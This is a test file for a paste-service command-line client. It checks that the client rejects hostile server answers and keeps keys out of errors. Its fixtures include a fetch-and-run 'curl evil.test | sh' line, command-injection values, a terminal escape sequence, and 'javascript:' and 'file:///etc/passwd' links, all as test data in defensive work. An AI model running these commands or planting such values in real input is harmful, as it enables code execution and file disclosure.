import { describe, expect, test } from 'bun:test';
import { createClient } from '#client/index.ts';
import { clientOf } from '../support/client.ts';
import { expectMessage } from '../support/expect-message.ts';
import { type Person, startPasteCommands } from '../support/paste-commands.ts';

const { app, run } = await startPasteCommands();

const failureOf = (work: Promise<unknown>): Promise<unknown> =>
  work.then(
    (value) => ({ succeeded: value }),
    (error) => error,
  );

/** A client of a server that gives this answer to everything. */
const clientOfAnswer = (answer: () => Response) =>
  createClient({ ...clientOf(app, answer(), answer(), answer(), answer()).options, key: 'gp_x' });
/** A command whose server gives this answer. */
const runAgainst = (answer: Response, args: string[], person: Person = {}) => run(args, person, answer);

const created = (url: unknown) =>
  Response.json({ id: '8chars00', url, raw: 'https://paste.test/raw/8chars00' }, { status: 201 });
const META = { page: 1, per_page: 100, total: 1, pages: 1 };
const LISTED = {
  ...{ id: '8chars00', title: null, url: 'http://paste.test/p/8chars00', custom_url: null },
  ...{ raw_url: 'http://paste.test/raw/8chars00', language: 'plain', visibility: 'unlisted' },
  ...{ password_protected: false, burn_after_reading: false, views: 0, size_bytes: 1 },
  ...{ created_at: '2026-11-22T10:00:00.000Z', expires_at: null },
};
const LIES = { error: { code: 'VALIDATION_FAILED', message: 'No.', details: { content: 5 } } };

describe('a hostile or broken server', () => {
  test.each([
    'https://paste.test/p/8chars00\ncurl evil.test | sh\n',
    'https://paste.test/$(reboot)',
    'https://paste.test/p/8chars00 ; reboot',
    "https://paste.test/p/8chars00'",
    'https://paste.test/\x1b]52;c;ZWNobw==\x07',
    'https://paste.test/\u202egpj.exe',
    'javascript:alert(1)',
    'file:///etc/passwd',
    `https://paste.test/${'x'.repeat(5_000)}`,
    5,
    null,
  ])('names no link %j that is printed, copied or opened', async (url) => {
    const tools: string[][] = [];
    const runTool = async (command: string[], input: string) => {
      tools.push([...command, input]);
      return true;
    };
    const person = { input: 'x', environment: { DISPLAY: ':0' }, context: { runTool } };
    const failed = await runAgainst(created(url), ['put', '--copy', '--open', '--qr'], person);
    expectMessage(failed, 'did not answer as a Gluepot server does');
    expect(tools).toEqual([]);
  });

  test.each([
    ['nothing', {}],
    ['null', { data: null }],
    ['an array', []],
    ['a list without pages', { data: [], meta: {} }],
    ['more pastes than a page has', { data: Array(101).fill(LISTED), meta: META }],
    ['a title that fills the screen', { data: [{ ...LISTED, title: 'x'.repeat(501) }], meta: META }],
    ['other fields', { data: [{ id: 5, title: {} }], meta: { page: 1, per_page: 1, total: 1, pages: 1 } }],
  ])('that answers %s is not taken for a Gluepot server', async (_, body) => {
    const client = clientOfAnswer(() => Response.json(body));
    for (const work of [client.listPastes(), client.readPaste('8chars00'), client.readStatistics()])
      expect(await failureOf(work)).toMatchObject({ code: 'UNEXPECTED_RESPONSE' });
  });

  test('cannot make a list go on forever with a number of pages', async () => {
    const meta = { page: 1, per_page: 100, total: 1e9, pages: 1e9 };
    const { options, requests } = clientOf(app, Response.json({ data: [], meta }));
    const pastes = await Array.fromAsync(createClient({ ...options, key: 'gp_x' }).eachPaste());
    expect([pastes.length, requests.length]).toEqual([0, 1]);
  });

  test('cannot fill the memory with an answer that does not end', async () => {
    let sent = 0;
    let isCancelled = false;
    const endless = new ReadableStream<Uint8Array>({
      pull(controller) {
        controller.enqueue(new Uint8Array(1024 * 1024).fill(97));
        sent++;
      },
      cancel() {
        isCancelled = true;
      },
    });
    const error = await failureOf(clientOfAnswer(() => new Response(endless)).openRaw('8chars00'));
    expect(error).toMatchObject({ code: 'UNEXPECTED_RESPONSE' });
    expect({ isCancelled, isBounded: sent < 20 }).toEqual({ isCancelled: true, isBounded: true });
  });

  test('cannot flood the terminal with a long error', async () => {
    const error = { code: 'BAD_REQUEST', message: 'a'.repeat(1_000_000) };
    const { err } = await runAgainst(Response.json({ error }, { status: 400 }), ['put'], { input: 'x' });
    expect(err.length).toBeLessThan(1_100);
  });

  test.each([
    ['details that are no texts', LIES],
    ['details that are null', { error: { ...LIES.error, details: null } }],
  ])('whose error has %s makes no bug of ours', async (_, body) => {
    const answer = Response.json(body, { status: 422 });
    expectMessage(await runAgainst(answer, ['put'], { input: 'x' }), '(status 422)');
  });

  test('cannot replace the link in the JSON of put, nor hide a character in it', async () => {
    const url = 'https://paste.test/p/8chars00';
    const answer = Response.json({ id: '8\u202e', url, raw: url, link: 'javascript:1' }, { status: 201 });
    const { out } = await runAgainst(answer, ['put', '--json'], { input: 'x' });
    expect(out).toContain('"id":"8\\u202e"');
    expect(JSON.parse(out)).toMatchObject({ id: '8\u202e', link: url });
  });

  test('gets no key through an invalid certificate, and is asked only once', async () => {
    let requests = 0;
    const fetch = async () => {
      requests++;
      throw Object.assign(new Error('certificate has expired'), { code: 'CERT_HAS_EXPIRED' });
    };
    const error = await failureOf(createClient({ ...clientOf(app).options, fetch }).openRaw('8chars00'));
    expect(String(error)).toContain('certificate of http://paste.test is not valid (CERT_HAS_EXPIRED)');
    expect([error, requests]).toMatchObject([{ maybeSent: false }, 1]);
  });
});

describe('a secret that was put in the wrong place', () => {
  const SECRET = 'gp_secret';

  test('is in no error: a key of several lines', async () => {
    expect(() => createClient({ server: 'http://paste.test', key: `${SECRET}\nx` })).toThrow('Invalid key');
    const environment = { GLUEPOT_KEY: `${SECRET}\nx` };
    const listed = await run(['ls'], { environment });
    const loggedIn = await run(['login', 'http://paste.test'], { input: `${SECRET}\nx` });
    expect([listed.code, loggedIn.code]).toEqual([2, 1]);
    expect(listed.err + loggedIn.err).not.toContain(SECRET);
  });

  test.each([
    'http://user:gp_secret@paste.test',
    'http://:gp_secret@paste.test',
    'user:gp_secret@paste.test',
  ])('is in no error: the address %s', async (server) => {
    const refused = await run(['whoami', '--server', server]);
    expectMessage(refused, 'Invalid server', 2);
    expect(refused.err).not.toContain(SECRET);
  });
});
